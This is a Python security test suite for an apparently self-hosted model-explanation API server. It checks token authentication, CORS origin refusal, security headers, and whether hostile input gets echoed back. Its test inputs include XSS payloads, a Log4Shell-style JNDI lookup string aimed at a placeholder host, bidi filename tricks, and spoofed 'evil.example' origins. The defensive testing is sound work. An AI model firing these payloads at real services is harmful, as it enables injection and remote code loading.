#!/usr/bin/python3
"""test_security.py - with --tokens and --cors-origins, over every /v1 operation openapi.yaml
declares (so a route added to the contract is covered without editing this file):

  auth     no, a malformed or a wrong bearer token: 401 (with WWW-Authenticate) or 403, for
           GET, HEAD and POST alike, before any body is looked at; the right token passes;
           OPTIONS preflights and the open routes need none
  CORS     origins not on the list (look-alikes, other schemes and ports, "null", other case)
           are refused (403, no Access-Control-Allow-Origin) on every /v1 route and preflight;
           the listed one is echoed, never "*"
  echo     hostile text (HTML, quotes, control characters, 5000-character names, bidi and
           template tricks) sent as a model name, a parameter name or value, a method, class
           or layer name, a multipart part or file name, a request id: the answer is JSON
           (nosniff) whose message quotes none of it and holds no control character; the
           access log and stderr hold none of it either, nor the token
  headers  X-Content-Type-Options: nosniff and Cache-Control: no-store on every answer the
           server makes (every declared operation, HEAD, OPTIONS, and 400/401/403/404/405/413
           answers); every HTML answer carries a Content-Security-Policy of default-src 'none'
           without 'unsafe-inline', 'unsafe-eval' or '*'
"""
import base64
import json
import os
import tempfile
import unittest
import urllib.parse

from xaidtest import MODEL, Server, contract, curl, example, main

TOKEN = "sec-T0ken_abcdefghijklmnop.42"
ORIGIN = "https://viewer.example"
PNG = example("clear-1.png")


def setUpModule():
    global C, SERVER, TMP
    C = contract()
    TMP = tempfile.TemporaryDirectory()
    tokens = os.path.join(TMP.name, "tokens")
    with open(tokens, "w") as f:
        f.write("security-test %s\n" % TOKEN)
    SERVER = Server("--workers", "1", "--tokens", tokens, "--cors-origins", ORIGIN,
                    "--max-body", "2000000")
    SERVER.start()


def tearDownModule():
    rc = SERVER.stop()
    TMP.cleanup()
    if rc != 0:
        raise AssertionError("xaid serve exited %r:\n%s" % (rc, SERVER.stderr()))


AUTH = ("-H", "Authorization: Bearer " + TOKEN)


def operations():
    """(template, method) of every /v1 operation in openapi.yaml."""
    for path, item in C.spec["paths"].items():
        if path.startswith("/v1"):
            for method in ("get", "post", "put", "delete", "patch"):
                if method in item:
                    yield path, method.upper()


def request(template, method, *args, body=True):
    """One request to an operation; POSTs carry a PNG (so that only the headers can refuse)."""
    url = SERVER.url(template.replace("{model}", MODEL))
    extra = ["-X", method] if method != "HEAD" else ["-I"]
    if method == "POST" and body:
        extra += ["-H", "Content-Type: image/png", "--data-binary", "@" + PNG]
    return curl(url, *extra, *args)


class Auth(unittest.TestCase):
    MALFORMED = [None, "", "Bearer", "Bearer ", "bearer", "Basic dXNlcjpwYXNzd29yZA==", TOKEN,
                 "Token " + TOKEN, "Bearer " + TOKEN + " extra", "Bearer " + TOKEN + ",",
                 "Bearer <script>x</script>", "Bearer " + TOKEN + ";x"]
    WRONG = [TOKEN[:-1], TOKEN + "x", TOKEN.upper(), "x" + TOKEN[1:], "A" * 4000,
             "tok-9f8e7d6c5b4a3210"]

    def test_every_v1_operation(self):
        ops = list(operations())
        self.assertGreaterEqual(len(ops), 11, ops)
        for template, method in ops:
            for hdr in self.MALFORMED:
                with self.subTest(op=(method, template), authorization=hdr):
                    args = ("-H", "Authorization: " + hdr) if hdr is not None else ()
                    r = request(template, method, *args)
                    C.check_error(r, template, method, 401, "unauthorized")
                    self.assertTrue(r.header("www-authenticate", "").startswith("Bearer"))
                    self.assertNotIn(TOKEN.encode(), r.body)
            for tok in self.WRONG:
                with self.subTest(op=(method, template), token=tok[:40]):
                    r = request(template, method, "-H", "Authorization: Bearer " + tok)
                    C.check_error(r, template, method, 403, "forbidden")
                    self.assertNotIn(tok[:20].encode(), r.body)
            with self.subTest(op=(method, template), token="right"):
                r = request(template, method, *AUTH)
                self.assertNotIn(r.status, (401, 403), r)
                C.check(r, template, method)

    def test_head_and_preflight(self):
        for template, method in operations():
            with self.subTest(op=(method, template)):
                if method == "GET":
                    r = request(template, "HEAD")
                    self.assertEqual(r.status, 401)
                    self.assertEqual(r.header("x-content-type-options"), "nosniff")
                r = request(template, "OPTIONS", "-H", "Origin: " + ORIGIN, "-H",
                            "Access-Control-Request-Method: " + method, body=False)
                C.check(r, template, "OPTIONS", 204)

    def test_open_routes(self):
        for path in ("/healthz", "/readyz", "/metrics", "/", "/viewer.js", "/viewer.css"):
            r = curl(SERVER.url(path), "-H", "Authorization: Bearer wrong-token-0123456789")
            C.check(r, path, "GET", 200)


class Cors(unittest.TestCase):
    UNLISTED = ["https://evil.example", ORIGIN + ".evil.example", "https://evil.example/" +
                ORIGIN, "http://viewer.example", ORIGIN + ":8443", ORIGIN + "/",
                ORIGIN.upper(), "null", "*", "https://sub.viewer.example"]

    def test_unlisted_origins_refused_everywhere(self):
        for template, method in operations():
            for origin in self.UNLISTED:
                with self.subTest(op=(method, template), origin=origin):
                    r = request(template, method, *AUTH, "-H", "Origin: " + origin)
                    C.check_error(r, template, method, 403, "forbidden")
                    self.assertIsNone(r.header("access-control-allow-origin"))
                    r = request(template, "OPTIONS", "-H", "Origin: " + origin, "-H",
                                "Access-Control-Request-Method: " + method, body=False)
                    C.check_error(r, template, "OPTIONS", 403, "forbidden")
                    self.assertIsNone(r.header("access-control-allow-origin"))

    def test_listed_origin(self):
        for template, method in operations():
            with self.subTest(op=(method, template)):
                r = request(template, method, *AUTH, "-H", "Origin: " + ORIGIN)
                self.assertNotIn(r.status, (401, 403), r)
                self.assertEqual(r.header("access-control-allow-origin"), ORIGIN)
                self.assertIn("origin", r.header("vary", "").lower())

    def test_open_routes_send_no_cors_headers(self):
        for path in ("/healthz", "/metrics", "/"):
            r = curl(SERVER.url(path), "-H", "Origin: https://evil.example")
            C.check(r, path, "GET", 200)
            self.assertIsNone(r.header("access-control-allow-origin"))


HOSTILE = ['<script>alert("xss-1")</script>', "ctl-\x01\x02\x1b[31m\x7f-ctl",
           "q\"u'o`t\\e-\"}]}{\"error\":1", "L" * 5000 + "-long-tail", "bidi-\u202etxt.exe",
           "${jndi:ldap://x.example/a}", "nul%00byte", "<img src=x onerror=alert(2)>"]
MARKERS = ["<script", "alert(", "\x1b", "\x01", "long-tail", "\u202e", "jndi", "onerror",
           "\"error\":1", "L" * 100]


class Echo(unittest.TestCase):
    """Client text never comes back in an answer, the access log or stderr."""

    def assert_clean(self, r, where):
        self.assertEqual(r.header("content-type"), "application/json", (where, r))
        self.assertEqual(r.header("x-content-type-options"), "nosniff")
        self.assertLess(r.status, 500, (where, r))
        self.assertLess(len(r.body), 2048, where)
        err = r.json()["error"]
        msg = err["message"]
        for m in MARKERS:
            self.assertNotIn(m, msg, "%s: the message echoes %r: %r" % (where, m, msg))
        self.assertFalse(any(ord(c) < 0x20 or c == "\x7f" for c in msg), (where, msg))
        self.assertNotIn(b"<script", r.body.lower())
        C.validate(r.json(), "Error%d" % r.status)

    def post_json(self, route, obj, model=MODEL):
        path = os.path.join(TMP.name, "body.json")
        with open(path, "w") as f:
            json.dump(obj, f)
        return curl(SERVER.url("/v1/models/%s/%s" % (urllib.parse.quote(model, safe=""), route)),
                    *AUTH, "-H", "Content-Type: application/json", "--data-binary", "@" + path)

    def post_raw(self, route, query):
        return curl(SERVER.url("/v1/models/%s/%s?%s" % (MODEL, route, query)), *AUTH,
                    "-H", "Content-Type: image/png", "--data-binary", "@" + PNG)

    def test_hostile_text_everywhere(self):
        with open(PNG, "rb") as f:
            image = base64.b64encode(f.read()).decode()
        for h in HOSTILE:
            q = urllib.parse.quote(h, safe="")
            cases = [
                ("model name", curl(SERVER.url("/v1/models/%s/explain" % q), *AUTH)),
                ("model name (GET)", curl(SERVER.url("/v1/models/" + q), *AUTH)),
                ("query parameter name", self.post_raw("explain", q + "=1")),
                ("query parameter value", self.post_raw("explain", "colormap=" + q)),
                ("method", self.post_raw("explain", "method=" + q)),
                ("class", self.post_raw("explain", "target=" + q)),
                ("layer", self.post_raw("explain", "layer=" + q)),
                ("predict parameter", self.post_raw("predict", q + "=" + q)),
                ("JSON key", self.post_json("explain", {"image": image, h: 1})),
                ("JSON value", self.post_json("explain", {"image": image, "method": h})),
                ("report target", self.post_json("report", {"image": image, "target": h})),
                ("view layer", self.post_raw("features", "layer=" + q)),
                ("view parameter", curl(SERVER.url("/v1/models/%s/filters?%s=1" % (MODEL, q)),
                                        *AUTH)),
                ("maximize target", curl(SERVER.url("/v1/models/%s/maximize?target=%s" %
                                                    (MODEL, q)), "-X", "POST", *AUTH)),
                ("unknown route", curl(SERVER.url("/v1/" + q), *AUTH)),
            ]
            if "\x01" not in h and '"' not in h and "\\" not in h:  # curl -F cannot carry these
                cases.append(("multipart part name", curl(
                    SERVER.url("/v1/models/%s/explain" % MODEL), *AUTH,
                    "-F", "image=@%s;type=image/png" % PNG, "-F", "%s=x" % h[:200])))
            for where, r in cases:
                with self.subTest(where=where, text=h[:30]):
                    self.assertGreaterEqual(r.status, 400, (where, r))
                    self.assert_clean(r, where)

    def test_request_id_and_file_name_are_not_echoed(self):
        for h in ("<script>alert(3)</script>", "id with spaces", "x" * 65):
            r = curl(SERVER.url("/v1/models"), *AUTH, "-H", "X-Request-ID: " + h)
            C.check(r, "/v1/models", "GET", 200)
            self.assertRegex(r.header("x-request-id"), r"^[0-9a-f]{32}$")
        r = curl(SERVER.url("/v1/models/%s/explain" % MODEL), *AUTH,
                 "-F", "image=@%s;type=image/png;filename=<script>alert(4)</script>.png" % PNG)
        C.check(r, "/v1/models/{model}/explain", "POST", 200)
        self.assertNotIn(b"alert(4)", r.body)

    def test_zz_logs_hold_no_client_text(self):
        """Runs last in this class (unittest sorts by name): after every hostile request."""
        log = SERVER.access_log().decode("utf-8", "replace")
        err = SERVER.stderr()
        for m in MARKERS + ["alert(3)", "alert(4)", TOKEN, "Basic dXNlcjpw", "evil.example"]:
            self.assertNotIn(m, log, "the access log holds %r" % m)
            self.assertNotIn(m, err, "stderr holds %r" % m)
        for line in log.splitlines():
            json.loads(line)  # every line is still one JSON object


class Headers(unittest.TestCase):
    def answers(self):
        """(what, response) for every kind of answer the server makes."""
        for path, item in C.spec["paths"].items():
            url = path.replace("{model}", MODEL)
            for method in ("get", "post"):
                if method in item:
                    yield (method, path), request(path, method.upper(), *AUTH)
            if "get" in item:
                yield ("head", path), request(path, "HEAD", *AUTH)
            yield ("bad method", path), curl(SERVER.url(url), "-X", "DELETE", *AUTH)
            yield ("query", path), curl(SERVER.url(url + "?" + "&".join(["a=1"] * 40)), *AUTH)
            if path.startswith("/v1"):
                yield ("options", path), request(path, "OPTIONS", body=False)
                yield ("no token", path), request(path, "GET")
        yield ("404", "/nope"), curl(SERVER.url("/nope"))
        big = os.path.join(TMP.name, "big.png")
        with open(big, "wb") as f:
            f.write(bytes(2100000))  # over --max-body
        yield ("413", "explain"), curl(SERVER.url("/v1/models/%s/explain" % MODEL), *AUTH,
                                       "-H", "Content-Type: image/png", "--data-binary", "@" + big)
        yield ("html report", "report"), curl(SERVER.url("/v1/models/%s/report" % MODEL),
                                              *AUTH, "-H", "Accept: text/html",
                                              "-F", "image=@%s;type=image/png" % PNG)

    def test_nosniff_and_no_store_everywhere(self):
        n = 0
        for what, r in self.answers():
            with self.subTest(what=what, status=r.status):
                self.assertEqual(r.header("x-content-type-options"), "nosniff", r)
                self.assertEqual(r.header("cache-control"), "no-store", r)
                n += 1
        self.assertGreater(n, 60)

    def test_html_answers_carry_a_strict_policy(self):
        html = 0
        for what, r in self.answers():
            if not (r.header("content-type") or "").startswith("text/html"):
                continue
            html += 1
            with self.subTest(what=what):
                csp = r.header("content-security-policy")
                self.assertIsNotNone(csp, "an HTML answer without Content-Security-Policy")
                directives = dict((d.strip().split(" ", 1) + [""])[:2] for d in csp.split(";"))
                self.assertEqual(directives["default-src"], "'none'")
                self.assertEqual(directives.get("frame-ancestors"), "'none'")
                for bad in ("unsafe-inline", "unsafe-eval", "*", "http:", "https:"):
                    self.assertNotIn(bad, csp)
        self.assertGreaterEqual(html, 2)  # the viewer page and the report


if __name__ == "__main__":
    main()
